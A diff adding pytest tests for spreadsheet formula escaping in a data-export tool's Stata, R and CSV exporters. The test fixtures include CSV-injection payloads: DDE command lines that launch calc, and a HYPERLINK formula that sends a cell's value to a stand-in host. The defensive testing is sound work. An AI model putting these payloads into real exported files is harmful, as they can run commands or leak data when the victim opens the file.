@@ -140,3 +140,85 @@ def test_cli_export(run_dir, tmp_path):
     r = subprocess.run([sys.executable, "-m", "analysis", "export", "--out", str(run_dir), "--to", "sas"],
                        capture_output=True, text=True)
     assert r.returncode == 2 and "unknown export format" in r.stderr
+
+
+# ------------------------------------------------------------ spreadsheet formulas (issue 27)
+FORMULAS = ['=HYPERLINK("http://example.invalid/?x="&A1,"click")', "+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0",
+            "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "plain text", "a = b"]
+
+
+def _formula_run(tmp_path, run_dir=None):
+    out = tmp_path / "frun"
+    (out / "tables").mkdir(parents=True)
+    # Parquet: the values reach the exporter exactly (a bare carriage return is one of them)
+    pd.DataFrame({"doc_id": [f"d{i}" for i in range(len(FORMULAS))], "speaker": FORMULAS,
+                  "score": [-0.5 + i for i in range(len(FORMULAS))]}).to_parquet(out / "tables" / "documents.parquet",
+                                                                               index=False)
+    return out
+
+
+def _read(f, to):
+    if to == "stata":
+        return pyreadstat.read_dta(str(f))[0]
+    if to == "r":
+        return pyreadr.read_r(str(f))[None]
+    return pd.read_csv(f, encoding="utf-8-sig", keep_default_na=False, lineterminator="\n")
+
+
+def test_exports_keep_formulas_verbatim_by_default(tmp_path):
+    out = _formula_run(tmp_path)
+    for to in ("stata", "r", "csv"):
+        paths = export_run(out, to, dest=tmp_path / to)
+        got = _read(paths[0], to)
+        assert got["speaker"].tolist() == FORMULAS, to  # the data round-trip: nothing added
+        assert got["score"].tolist() == [-0.5 + i for i in range(len(FORMULAS))]
+
+
+def test_exports_escape_formulas_when_asked(tmp_path):
+    from analysis.export import escape_formula
+
+    out = _formula_run(tmp_path)
+    want = ["'" + v for v in FORMULAS[:6]] + FORMULAS[6:]
+    assert [escape_formula(v) for v in FORMULAS] == want
+    assert escape_formula(-3) == -3 and escape_formula(None) is None
+    for to in ("stata", "r", "csv"):
+        got = _read(export_run(out, to, dest=tmp_path / to, formula_escape=True)[0], to)
+        assert got["speaker"].tolist() == want, to
+        assert got["score"].tolist() == [-0.5 + i for i in range(len(FORMULAS))]  # numbers untouched
+    # a column name from the data is escaped too in the spreadsheet CSV
+    pd.DataFrame({"=cmd|x": ["a"], "doc_id": ["d"]}).to_csv(out / "tables" / "odd.csv", index=False)
+    f = next(p for p in export_run(out, "csv", dest=tmp_path / "c2", formula_escape=True) if p.stem == "odd")
+    assert pd.read_csv(f, encoding="utf-8-sig").columns.tolist() == ["'=cmd|x", "doc_id"]
+
+
+def test_matrix_market_docvars_formulas(run_dir, tmp_path):
+    import shutil
+
+    out = tmp_path / "mmrun"
+    (out / "tables").mkdir(parents=True)
+    shutil.copy(run_dir / "run.json", out / "run.json")
+    shutil.copy(run_dir / "tables" / "units.csv", out / "tables" / "units.csv")
+    docs = pd.read_csv(run_dir / "tables" / "documents.csv")
+    one_line = [v for v in FORMULAS if "\r" not in v]  # documents.csv is read as CSV here
+    docs["speaker"] = [one_line[i % len(one_line)] for i in range(len(docs))]
+    docs.to_csv(out / "tables" / "documents.csv", index=False)
+    plain = pd.read_csv(export_run(out, "mm", dest=tmp_path / "a")[2], keep_default_na=False)
+    assert set(plain["speaker"]) <= set(one_line) and plain["speaker"].str.startswith("=").any()
+    esc = pd.read_csv(export_run(out, "mm", dest=tmp_path / "b", formula_escape=True)[2], keep_default_na=False)
+    assert not esc["speaker"].str.match(r"[=+\-@\t\r]").any()
+    assert (esc["speaker"].str.lstrip("'") == plain["speaker"]).all()
+
+
+def test_cli_export_escape_formulas(tmp_path):
+    from typer.testing import CliRunner
+
+    from analysis.cli.main import app
+
+    out = _formula_run(tmp_path)
+    res = CliRunner().invoke(app, ["export", "--out", str(out), "--to", "csv", "--dest", str(tmp_path / "c"),
+                                   "--escape-formulas"])
+    assert res.exit_code == 0, res.output
+    got = _read(tmp_path / "c" / "documents.csv", "csv")
+    assert got["speaker"].iloc[0].startswith("'=HYPERLINK")
+    res = CliRunner().invoke(app, ["export", "--help"])
+    assert "--escape-formulas" in res.output
